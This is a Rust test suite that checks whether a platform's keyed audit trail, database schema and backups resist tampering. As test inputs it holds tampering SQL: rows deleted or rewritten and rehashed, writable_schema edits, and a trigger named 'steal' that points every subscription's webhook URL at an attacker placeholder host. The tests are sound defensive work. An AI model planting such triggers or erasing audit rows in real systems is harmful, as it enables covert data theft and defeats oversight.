//! D1: what is kept cannot be forged without the platform's key, and attempts are named.

use super::cuts::{copied, scripts};
use super::process::{Serving, crow, done, ended, refused};
use crate::support::platform::plain_http;
use crow::client::connection::{ClientCredential, PlatformClient};
use crow::domain::operator::OperatorRole;
use crow::domain::secret::Secret;
use crow::wire::changes;
use crow::wire::operators::NewOperator;
use rusqlite::{Connection, params};
use sha2::{Digest as _, Sha256};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use tempfile::TempDir;

/// A platform that was stopped, with six rows of audit trail.
async fn audited(dir: &Path) {
    let serving = Serving::start(dir);
    serving.company().await;
    for name in ["Ada", "Grace", "Edsger", "Barbara"] {
        let new = NewOperator { name: name.to_owned(), role: OperatorRole::Viewer };
        serving.operator().change(&changes::CREATE_OPERATOR, &new).await.expect("created");
    }
    serving.stop();
}

fn database(dir: &Path) -> Connection {
    Connection::open(dir.join("platform.db")).expect("a database")
}

/// Returns the output and the exit code of `crow db verify`.
fn verified(dir: &Path, more: &[&str]) -> (Option<i32>, String) {
    let output = ended(&mut crow(&[&["db", "verify"], more].concat(), dir));
    (output.status.code(), String::from_utf8_lossy(&output.stdout).into_owned())
}

/// Recomputes the hash of every row as before the chain had a key, which is all that is possible without the key.
fn rehash(database: &Connection) {
    let mut previous: Vec<u8> = Vec::new();
    let mut statement = database
        .prepare("SELECT id, at, actor, action, subject, before, after, reason, request_id FROM audit ORDER BY id")
        .expect("a statement");
    let mut rows = statement.query([]).expect("rows");
    while let Some(row) = rows.next().expect("a row") {
        let (id, at): (i64, i64) = (row.get(0).expect("a number"), row.get(1).expect("a time"));
        let mut digest = Sha256::new().chain_update(&previous).chain_update(at.to_be_bytes());
        for column in 2..9 {
            match row.get::<_, Option<String>>(column).expect("text") {
                Some(text) => digest = digest.chain_update((text.len() as u64).to_be_bytes()).chain_update(text),
                None => digest = digest.chain_update(u64::MAX.to_be_bytes()),
            }
        }
        previous = digest.finalize().to_vec();
        database.execute("UPDATE audit SET hash = ?2 WHERE id = ?1", params![id, previous]).expect("written");
    }
}

fn forget_the_last_number(database: &Connection) {
    let sql = "UPDATE sqlite_sequence SET seq = (SELECT coalesce(max(id), 0) FROM audit) WHERE name = 'audit'";
    database.execute_batch(sql).expect("written");
}

#[tokio::test]
async fn d1_every_change_of_the_audit_trail_without_the_key_is_named() {
    let home = TempDir::new().expect("a directory");
    let (from, dir) = (home.path().join("from"), home.path().join("data"));
    audited(&from).await;
    assert_eq!(verified(&from, &[]).0, Some(0));
    let columns = ["at", "actor", "action", "subject", "before", "after", "reason", "request_id"];
    let edits = columns.map(|column| (format!("UPDATE audit SET {column} = 7 WHERE id = 3"), "row 3"));
    let others = [
        ("DELETE FROM audit WHERE id = 3", "row 3 is missing"),
        ("DELETE FROM audit WHERE id IN (1, 2)", "rows 1 to 2 are missing"),
        ("DELETE FROM audit WHERE id = 3; UPDATE audit SET id = id - 1 WHERE id > 3", "row 3"),
        (
            "UPDATE audit SET id = 99 WHERE id = 3; UPDATE audit SET id = 3 WHERE id = 4; UPDATE audit SET id = 4 WHERE id = 99",
            "row 3",
        ),
        ("DELETE FROM audit WHERE id > 4", "row 4 is not the last row"),
        ("DELETE FROM audit", "row 0 is not the last row"),
        (
            "INSERT INTO audit SELECT 7, at, actor, action, subject, before, after, reason, request_id, hash FROM audit WHERE id = 6",
            "row 7",
        ),
        ("DELETE FROM platform_values WHERE name = 'audit head'", "row 6 is not the last row"),
        ("UPDATE platform_values SET value = zeroblob(72) WHERE name = 'audit head'", "row 6 is not the last row"),
    ];
    let all = edits.into_iter().chain(others.map(|(sql, named)| (sql.to_owned(), named)));
    for (sql, named) in all {
        for is_rehashed in [false, true] {
            copied(&from, &dir);
            let database = database(&dir);
            database.execute_batch(&sql).unwrap_or_else(|error| panic!("{sql}: {error}"));
            forget_the_last_number(&database);
            if is_rehashed {
                rehash(&database);
            }
            drop(database);
            let (code, said) = verified(&dir, &[]);
            assert!(code == Some(1) && said.contains("WRONG    audit trail"), "{sql}: {said}");
            assert!(is_rehashed || said.contains(named), "{sql}: {named} in {said}");
            // A platform that goes on from there does not hide it.
            let serving = Serving::start(&dir);
            serving.company().await;
            serving.stop();
            let (code, said) = verified(&dir, &[]);
            assert!(code == Some(1) && said.contains("WRONG    audit trail"), "{sql}, gone on: {said}");
        }
    }
}

#[tokio::test]
async fn d1_an_exported_head_reveals_a_restored_earlier_state() {
    let home = TempDir::new().expect("a directory");
    let (early, dir, head) = (home.path().join("early"), home.path().join("data"), home.path().join("head.json"));
    audited(&early).await;
    copied(&early, &dir);
    let serving = Serving::start(&dir);
    serving.company().await;
    let served = plain_http()
        .get(format!("{}/portal/v1/audit/head", serving.address))
        .bearer_auth(std::fs::read_to_string(dir.join("operator.token")).expect("the token").trim())
        .send()
        .await
        .expect("an answer");
    std::fs::write(&head, served.bytes().await.expect("a body")).expect("written");
    let printed: serde_json::Value = serde_json::from_str(&done(&mut crow(&["db", "head"], &dir))).expect("JSON");
    let kept: serde_json::Value = serde_json::from_slice(&std::fs::read(&head).expect("kept")).expect("JSON");
    assert_eq!((&printed, &printed["sequence"]), (&kept, &8.into()));
    serving.company().await;
    serving.stop();
    let expect = ["--expect-head", head.to_str().expect("text")];
    let (code, said) = verified(&dir, &expect);
    assert!(code == Some(0) && said.contains("expected head (8)"), "rows after it are no fault: {said}");
    done(&mut crow(&["db", "rekey"], &dir));
    assert_eq!(verified(&dir, &expect).0, Some(0), "it outlives a change of the key");

    copied(&early, &dir);
    assert_eq!(verified(&dir, &[]).0, Some(0), "it is whole in itself");
    let (code, said) = verified(&dir, &expect);
    assert!(code == Some(1) && said.contains("row 8 differs from the expected head"), "{said}");
    std::fs::write(&head, "{}").expect("written");
    assert!(refused(2, &mut crow(&["db", "verify", expect[0], expect[1]], &dir)).contains("not an audit trail head"));
}

#[tokio::test]
async fn d1_an_unkeyed_trail_is_chained_once_and_keeps_its_faults() {
    for (spoils, state) in
        [("SELECT 1", "3 rows with plain hashes: whole"), ("DELETE FROM audit WHERE id = 2", "row 2 is missing")]
    {
        let dir = TempDir::new().expect("a directory");
        let database = Connection::open(dir.path().join("platform.db")).expect("a database");
        database.execute_batch(&scripts()[..11].concat()).expect("a schema");
        database.pragma_update(None, "application_id", i32::from_be_bytes(*b"crow")).expect("marked");
        database.pragma_update(None, "user_version", 11).expect("marked");
        let rows = "INSERT INTO operators (name, role, hash, created_at) VALUES ('admin', 'admin', randomblob(32), 1), ('admin', 'viewer', randomblob(32), 1), ('Admin', 'viewer', randomblob(32), 1);
            INSERT INTO audit (at, actor, action, subject, hash) VALUES (1, 'operator admin', 'a', 'x', x''), (2, 'operator admin', 'b', 'y', x''), (3, 'operator admin', 'c', 'z', x'')";
        database.execute_batch(rows).expect("filled");
        rehash(&database);
        database.execute_batch(spoils).expect("done");
        drop(database);
        let key = dir.path().join("platform.key");
        std::fs::write(&key, "7a".repeat(32)).expect("written");
        std::fs::set_permissions(&key, PermissionsExt::from_mode(0o600)).expect("private");

        Serving::start(dir.path()).stop();
        Serving::start(dir.path()).stop();
        let database = self::database(dir.path());
        let chained =
            "SELECT before FROM audit WHERE action LIKE 'chain the audit trail%' AND actor = 'this machine (crow)'";
        let found: Vec<String> = database
            .prepare(chained)
            .and_then(|mut statement| statement.query_map([], |row| row.get(0))?.collect())
            .expect("rows");
        assert!(found.len() == 1 && found[0].contains(state), "{found:?}");
        let mut names = database.prepare("SELECT name FROM operators ORDER BY id").expect("a statement");
        let names: Vec<String> = names.query_map([], |row| row.get(0)).expect("rows").flatten().collect();
        assert_eq!(names, ["admin", "admin #2", "Admin #3"], "names are told apart");
        let (code, said) = verified(dir.path(), &[]);
        assert_eq!(code, Some(i32::from(spoils != "SELECT 1")), "{said}");
        assert!(said.contains("rows keyed with the platform's key") || said.contains("row 2 is missing"), "{said}");
    }
}

#[tokio::test]
async fn a_lost_admin_token_is_replaced_on_the_machine_and_the_old_one_is_refused() {
    let home = TempDir::new().expect("a directory");
    let dir = home.path().join("data");
    let client = |serving: &Serving, token: &str| {
        PlatformClient::new(&serving.address, ClientCredential::Operator(Secret::new(token.trim().to_owned())))
            .expect("a client")
    };
    let serving = Serving::start(&dir);
    let file = dir.join("operator.token");
    let old = std::fs::read_to_string(&file).expect("the token");
    std::fs::remove_file(&file).expect("lost");
    let why = refused(2, &mut crow(&["operators", "reset"], &dir));
    assert!(why.contains(&format!("in use by process {}", serving.id())), "{why}");
    serving.stop();
    let said = done(&mut crow(&["operators", "reset"], &dir));
    assert!(said.contains("operator 1 (admin)") && said.contains("operator.token"), "{said}");
    let new = std::fs::read_to_string(&file).expect("the token");
    assert!(!said.contains(new.trim()) && new != old);
    assert_eq!(std::fs::metadata(&file).expect("there").permissions().mode() & 0o777, 0o600);
    let serving = Serving::start(&dir);
    client(&serving, &new).overview(1).await.expect("let in");
    client(&serving, &old).overview(1).await.expect_err("not let in");
    serving.stop();
    let actor: String = database(&dir)
        .query_row("SELECT actor FROM audit WHERE action = 'reset operator''s token'", [], |row| row.get(0))
        .expect("a row");
    assert_eq!(actor, "this machine (crow operators)");
    done(&mut crow(&["db", "verify"], &dir));
    assert_eq!(refused(2, &mut crow(&["operators", "reset"], &home.path().join("none"))).lines().count(), 1);
}

/// Schema objects that an attacker could add to a database, each with the name that must be reported.
const SCHEMAS: [(&str, &str); 10] = [
    (
        "CREATE TRIGGER steal AFTER INSERT ON events BEGIN UPDATE subscriptions SET target_url = 'https://evil.example/'; END",
        "the trigger steal on events",
    ),
    ("CREATE VIEW spare AS SELECT * FROM keys", "the view spare"),
    ("CREATE VIRTUAL TABLE spare USING fts5 (text)", "the table spare"),
    ("CREATE TABLE spare (a)", "the table spare"),
    ("CREATE INDEX spare ON events (length(body))", "the index spare on events"),
    ("ALTER TABLE companies ADD COLUMN spare TEXT DEFAULT 'x'", "the table companies is not defined"),
    ("DROP TRIGGER subscription_created", "the trigger subscription_created is missing"),
    ("DROP INDEX operators_name", "the index operators_name is missing"),
    (
        "DROP TRIGGER subscription_created; CREATE TRIGGER subscription_created AFTER INSERT ON subscriptions BEGIN SELECT 1; END",
        "the trigger subscription_created is not defined",
    ),
    (
        "PRAGMA writable_schema = on; UPDATE sqlite_schema SET sql = replace(sql, 'UNIQUE', '') WHERE name = 'operators_name'",
        "the index operators_name is not defined",
    ),
];

#[tokio::test]
async fn d1_a_foreign_schema_is_refused_by_restore_and_start_and_named_by_verify() {
    let home = TempDir::new().expect("a directory");
    let (from, dir, empty) = (home.path().join("from"), home.path().join("data"), home.path().join("empty"));
    audited(&from).await;
    for (sql, named) in SCHEMAS {
        copied(&from, &dir);
        database(&dir).execute_batch(sql).unwrap_or_else(|error| panic!("{sql}: {error}"));
        let before = std::fs::read(dir.join("platform.db")).expect("a database");
        let (code, said) = verified(&dir, &[]);
        assert!(code == Some(1) && said.contains(named), "{named}: {said}");
        let why = refused(2, &mut crow(&["serve", "--bind", "127.0.0.1:0"], &dir));
        assert!(why.contains(named) && why.contains("crow db verify"), "{why}");
        assert_eq!(std::fs::read(dir.join("platform.db")).expect("a database"), before, "it is left as it was");
        std::fs::copy(dir.join("platform.key"), dir.join("platform.db.key")).expect("copied");
        let name = dir.join("platform.db").to_string_lossy().into_owned();
        let why = refused(2, &mut crow(&["db", "restore", &name, "--unauthenticated"], &empty));
        assert!(why.contains(named), "{why}");
        assert!(!empty.join("platform.db").exists(), "nothing is put in place");
    }
}

#[tokio::test]
async fn d1_a_changed_or_foreign_backup_is_refused() {
    let home = TempDir::new().expect("a directory");
    let (dir, other, empty) = (home.path().join("data"), home.path().join("other"), home.path().join("empty"));
    audited(&dir).await;
    audited(&other).await;
    let path = |name: &str| home.path().join(name);
    let name = path("copy.db").to_string_lossy().into_owned();
    let foreign = path("foreign.db").to_string_lossy().into_owned();
    let [file, mac, key] = ["copy.db", "copy.db.mac", "copy.db.key"].map(path);
    done(&mut crow(&["db", "backup", &name], &dir));
    done(&mut crow(&["db", "backup", &foreign], &other));
    let whole = std::fs::read(&file).expect("a backup");
    let [code, right] = [&mac, &key].map(|path| std::fs::read(path).expect("beside it"));
    let restore = |more: &[&str], dir: &Path| crow(&[&["db", "restore", &name], more].concat(), dir);
    let is_refused = |what: &str, named: &str| {
        let why = refused(2, &mut restore(&[], &empty));
        assert!(why.contains(named), "{what}: {why}");
        assert!(!empty.join("platform.db").exists() && !empty.join("platform.key").exists(), "{what}");
    };
    // One byte of each page: of its head, its cells, or what is free.
    for (page, at) in (0..whole.len() / 4_096).zip([0, 8, 100, 1_000, 2_500, 4_095].into_iter().cycle()) {
        let mut bytes = whole.clone();
        bytes[page * 4_096 + at] ^= 1;
        std::fs::write(&file, &bytes).expect("written");
        is_refused(&format!("byte {at} of page {page}"), "is not the backup that");
    }
    for bytes in [&whole[..whole.len() - 4_096], &[whole.as_slice(), &[0; 4_096]].concat()] {
        std::fs::write(&file, bytes).expect("written");
        is_refused("another length", "is not the backup that");
    }
    std::fs::write(&file, &whole).expect("written");
    for (text, what) in
        [(std::fs::read(path("foreign.db.mac")).expect("a code"), "another's code"), (Vec::new(), "no code")]
    {
        std::fs::write(&mac, text).expect("written");
        is_refused(what, "is not the backup that");
    }
    std::fs::remove_file(&mac).expect("removed");
    is_refused("without a code", "copy.db.mac is missing");
    // Another platform's backup, key and all, in a directory that has a platform: its own key decides where none is beside the file.
    std::fs::copy(path("foreign.db"), &file).expect("copied");
    std::fs::copy(path("foreign.db.mac"), &mac).expect("copied");
    std::fs::remove_file(&key).expect("removed");
    let why = refused(2, &mut restore(&[], &dir));
    assert!(why.contains("platform.key"), "{why}");

    std::fs::write(&file, &whole).expect("written");
    std::fs::write(&mac, &code).expect("written");
    is_refused("without a key", "copy.db.key is missing");
    done(restore(&[], &empty).env("CROW_PLATFORM_KEY", std::str::from_utf8(&right).expect("text").trim()));
    std::fs::remove_dir_all(&empty).expect("removed");
    std::fs::write(&key, &right).expect("written");
    done(&mut restore(&[], &empty));
    assert_eq!(verified(&empty, &[]).0, Some(0));
}
